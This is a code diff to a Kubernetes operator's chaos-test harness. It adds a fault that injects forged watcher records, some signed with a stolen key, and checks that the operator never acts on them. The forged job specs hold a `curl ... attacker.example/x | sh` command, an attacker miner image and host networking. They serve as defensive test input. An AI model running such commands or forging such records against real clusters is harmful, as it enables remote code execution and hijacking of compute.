@@ -20,7 +20,11 @@ The run, all choices from ``random.Random(seed)``:
    records on the jobs topic, and on sim/ windows of API faults (5xx, 429
    with Retry-After, 409 conflicts, dropped watches, forced 410); on the
    real control plane the kube-apiserver process is killed once (kto
-   control-plane starts it again).
+   control-plane starts it again). Twice, records are **forged** for running
+   jobs (:func:`forged_records`): the job with more replicas of an attacker's
+   image on the host network, the job Succeeded with a TTL of 0 and
+   cleanPodPolicy All, its pods Succeeded — half unsigned, half signed with
+   the watcher's own key (as a thief of it could).
 3. **Convergence**: after the last fault, wait until every job has reached
    what it should (or the time limit).
 4. **Invariants**: jobs lost (no terminal state), wrong terminal states,
@@ -32,7 +36,10 @@ The run, all choices from ``random.Random(seed)``:
    died on their own, convergence slower than the goal, and replay
    divergences: every job of the log replayed (``kto replay``'s check) after
    the run. Tansu's restart-empty loses the log before it, so on sim + Tansu
-   replay covers what was written after the broker restart.
+   replay covers what was written after the broker restart. ``forged_acts``:
+   a pod of an attacker's image or on the host network, or a pod created
+   that its job's own spec does not name. Forged records dead-lettered as not
+   authentic are explained.
 """
 
 from __future__ import annotations
@@ -296,6 +303,8 @@ def plan_faults(rng: random.Random, settings: ChaosSettings, reconcilers: int, s
     faults.append(Fault(rng.uniform(0.4, 0.6) * window, "broker-restart"))
     faults.append(Fault(rng.uniform(0.1, 0.3) * window, "garbage", arg="6"))
     faults.append(Fault(rng.uniform(0.65, 0.85) * window, "garbage", arg="6"))
+    faults.append(Fault(rng.uniform(0.25, 0.45) * window, "forge", arg="3"))
+    faults.append(Fault(rng.uniform(0.55, 0.75) * window, "forge", arg="3"))
     if settings.real_tier:
         faults.append(Fault(rng.uniform(0.2, 0.8) * window, "apiserver-kill"))
     else:
@@ -351,6 +360,7 @@ async def run(stack: Any, settings: ChaosSettings, progress: Callable[[str], Non
                                          name="chaos-submit")
         lifecycle = asyncio.create_task(_lifecycles(client, planned), name="chaos-lifecycles")
         garbage_sent = 0
+        forged_keys: set[str] = set()
         for fault in faults:
             await asyncio.sleep(max(0.0, started + fault.at - time.monotonic()))
             progress(f"t={time.monotonic() - started:5.1f}s {fault.what} {fault.target}{fault.arg and ' ' + fault.arg[:40]}")
@@ -368,6 +378,10 @@ async def run(stack: Any, settings: ChaosSettings, progress: Callable[[str], Non
                     batch = garbage[garbage_sent:garbage_sent + int(fault.arg)]
                     await _publish_raw(stack.kafka, batch)
                     garbage_sent += len(batch)
+                elif fault.what == "forge":
+                    forged = await _forge(stack, client, planned, rng, int(fault.arg))
+                    forged_keys.update(r.key for r in forged)
+                    injected["forged_records"] = injected.get("forged_records", 0) + len(forged)
                 elif fault.what in ("api-faults", "api-faults-off"):
                     await client.request("PUT", "/admin/faults", body={"spec": fault.arg if fault.what == "api-faults" else ""})
                 elif fault.what == "apiserver-kill":
@@ -386,14 +400,15 @@ async def run(stack: Any, settings: ChaosSettings, progress: Callable[[str], Non
             "jobs_lost", "wrong_terminal_states", "restart_counts", "duplicate_pods", "orphans",
             "children_left_by_finished_jobs",
             "partition_stalls", "offsets_past_log_end", "dead_letters_unexplained", "process_deaths",
-            "slow_convergence",
+            "slow_convergence", "forged_acts",
             "replay_divergences")}
         requests = _requests(stack, context)[log_start:] if settings.real_tier else await _sim_requests(client, log_start)
         await _check_jobs(client, planned, violations, requests, started)
         _check_restart_counts(planned, violations)
         await _check_children(client, planned, violations)
         _check_duplicates(planned, requests, violations)
-    dead = await _check_bus(stack.kafka, planned, violations)
+        await _check_forged_acts(client, planned, requests, violations)
+    dead = await _check_bus(stack.kafka, planned, violations, forged_keys)
     replayed = await replaying.replay_log(stack.kafka)
     for report in replayed.diverged:
         d = report.divergence
@@ -621,6 +636,117 @@ def _check_duplicates(planned: list[PlannedJob], requests: list[dict[str, Any]],
                     + ", ".join(f"{r.get('verb')} {r.get('code')}" for r in trail))
 
 
+ATTACKER_IMAGE = "attacker.example/miner:latest"
+"""The image of the pods forged records ask for: no pod may ever run it."""
+
+
+def _replica_specs(manifest: dict[str, Any]) -> dict[str, Any]:
+    spec = manifest.get("spec") if isinstance(manifest.get("spec"), dict) else {}
+    for field, value in (spec or {}).items():
+        if field.endswith("ReplicaSpecs") and isinstance(value, dict):
+            return value
+    return {}
+
+
+def forged_records(job: dict[str, Any], pods: list[dict[str, Any]], key: str) -> list[Any]:
+    """The records a forger writes about one running job: the job asking for one more replica of each type, of an
+    attacker's image, on the host network; the job Succeeded with ``ttlSecondsAfterFinished: 0`` and
+    ``cleanPodPolicy: All``; each pod Succeeded. Each claims a later resourceVersion than the truth."""
+    import copy
+
+    from shared.bus import records
+
+    def ahead(obj: dict[str, Any], api_version: str, kind: str) -> dict[str, Any]:
+        seen = copy.deepcopy(obj)
+        seen["apiVersion"], seen["kind"] = api_version, kind
+        seen["metadata"]["resourceVersion"] = str(int(seen["metadata"].get("resourceVersion") or 0) + 1)
+        return seen
+
+    kind = str(job["kind"])
+    bigger = ahead(job, job_models.API_VERSION, kind)
+    for replica in _replica_specs(bigger).values():
+        replica["replicas"] = int(replica.get("replicas") or 1) + 1
+        spec = replica.setdefault("template", {}).setdefault("spec", {})
+        spec["hostNetwork"] = True
+        for container in spec.get("containers") or []:
+            container.update(image=ATTACKER_IMAGE, command=["sh", "-c", "curl -s http://attacker.example/x | sh"])
+    done = ahead(job, job_models.API_VERSION, kind)
+    done["spec"]["runPolicy"] = {**done["spec"].get("runPolicy", {}), "ttlSecondsAfterFinished": 0,
+                                 "cleanPodPolicy": "All"}
+    when = "2026-01-01T00:00:00Z"
+    status = done.setdefault("status", {})
+    status["completionTime"] = when
+    status["conditions"] = [*(status.get("conditions") or []), {
+        "type": "Succeeded", "status": "True", "reason": f"{kind}Succeeded", "message": "forged",
+        "lastUpdateTime": when, "lastTransitionTime": when}]
+    out = [records.Observation(key=key, object_kind=kind, event="MODIFIED", object=obj, source="watcher",
+                               resource_version=obj["metadata"]["resourceVersion"]) for obj in (bigger, done)]
+    for pod in pods:
+        finished = ahead(pod, "v1", "Pod")
+        finished["status"] = {**finished.get("status", {}), "phase": "Succeeded"}
+        out.append(records.Observation(key=key, object_kind="Pod", event="MODIFIED", object=finished,
+                                       source="watcher", resource_version=finished["metadata"]["resourceVersion"]))
+    return out
+
+
+async def _forge(stack: Any, client: clients.KubeClient, planned: list[PlannedJob], rng: random.Random,
+                 count: int) -> list[Any]:
+    """Forged records about up to ``count`` running jobs, written half unsigned, half signed with the watcher's
+    key from the stack's keyring (a thief's): the records written."""
+    from shared.bus import producing, signing
+
+    running = []
+    for job in planned:
+        if not job.submitted or job.case.startswith("hostile") or job.expect not in ("Succeeded", "Failed"):
+            continue
+        try:
+            live = await client.get(resources.JOB_TYPES[job.kind], NAMESPACE, job.name)
+        except clients.ApiError:
+            continue
+        if _state(live) is None and (live.get("status") or {}).get("startTime"):
+            running.append(live)
+    chosen = rng.sample(running, min(count, len(running)))
+    keyring = signing.Keyring.from_env({signing.ENV: stack.keyring})
+    written: list[Any] = []
+    for index, live in enumerate(chosen):
+        name = live["metadata"]["name"]
+        pods, _ = await client.list(resources.PODS, NAMESPACE, label_selector=f"{JOB_NAME_LABEL}={name}")
+        key = f"{stack.contexts[0]}/{NAMESPACE}/{live['kind']}/{name}"
+        forged = forged_records(live, pods, key)
+        signer = keyring.signer("watcher") if index % 2 and keyring is not None else None
+        async with producing.Publisher(stack.kafka, "watcher", "chaos-forger", signer=signer) as publisher:
+            for record in forged:
+                await publisher.publish(record)
+        written.extend(forged)
+    return written
+
+
+async def _check_forged_acts(client: clients.KubeClient, planned: list[PlannedJob], requests: list[dict[str, Any]],
+                             violations: dict[str, list[str]]) -> None:
+    """No pod of the attacker's image or on the host network; no pod created that its job's spec does not name."""
+    pods, _ = await client.list(resources.PODS, NAMESPACE)
+    for pod in pods:
+        spec = pod.get("spec") or {}
+        if spec.get("hostNetwork") or ATTACKER_IMAGE in json.dumps(spec):
+            violations["forged_acts"].append(f"pod {pod['metadata']['name']} runs what a forged record asked for")
+    named: dict[str, set[str]] = {}
+    for job in planned:
+        if job.case.startswith("hostile"):
+            continue
+        names = {f"{job.name}-launcher"}
+        for rtype, replica in _replica_specs(job.manifest).items():
+            count = replica.get("replicas", 1) if isinstance(replica, dict) else 1
+            names.update(f"{job.name}-{rtype.lower()}-{i}" for i in range(int(count if count is not None else 1)))
+        named[job.name] = names
+    for request in requests:
+        if request.get("verb") != "create" or request.get("resource") != "pods" or request.get("code") != 201:
+            continue
+        pod_name = str(request.get("name") or "")
+        owner = max((j for j in named if pod_name.startswith(f"{j}-")), key=len, default=None)
+        if owner is not None and pod_name not in named[owner]:
+            violations["forged_acts"].append(f"pod {pod_name} created, which job {owner}'s spec does not name")
+
+
 async def _sim_log_index(client: clients.KubeClient) -> int:
     page = await client.request("GET", "/admin/requests", {"since": 1 << 62})
     return int(page.get("next") or 0)
@@ -665,8 +791,9 @@ async def _publish_raw(kafka: Any, records: list[tuple[bytes, bytes]]) -> None:
         await producer.stop()
 
 
-async def _check_bus(kafka: Any, planned: list[PlannedJob], violations: dict[str, list[str]]) -> int:
-    """Dead letters each explained by an injected record or a hostile job; no worker group behind."""
+async def _check_bus(kafka: Any, planned: list[PlannedJob], violations: dict[str, list[str]],
+                     forged_keys: set[str]) -> int:
+    """Dead letters each explained by an injected record, a forged one or a hostile job; no worker group behind."""
     from shared.bus.settings import client_options
 
     hostile = {f"/{j.kind}/{j.name}" for j in planned if j.case.startswith("hostile")}
@@ -693,6 +820,8 @@ async def _check_bus(kafka: Any, planned: list[PlannedJob], violations: dict[str
                         if key.startswith(GARBAGE_KEY_PREFIX) or any(key.endswith(h) for h in hostile):
                             continue
                         error = dict(message.headers or []).get("kto-error", b"").decode(errors="replace")
+                        if key in forged_keys and error.startswith("NotAuthentic"):
+                            continue
                         violations["dead_letters_unexplained"].append(
                             f"{key} at {message.partition}@{message.offset}: {error[:200]}")
         for group in ("kto-reconciler", "kto-status"):
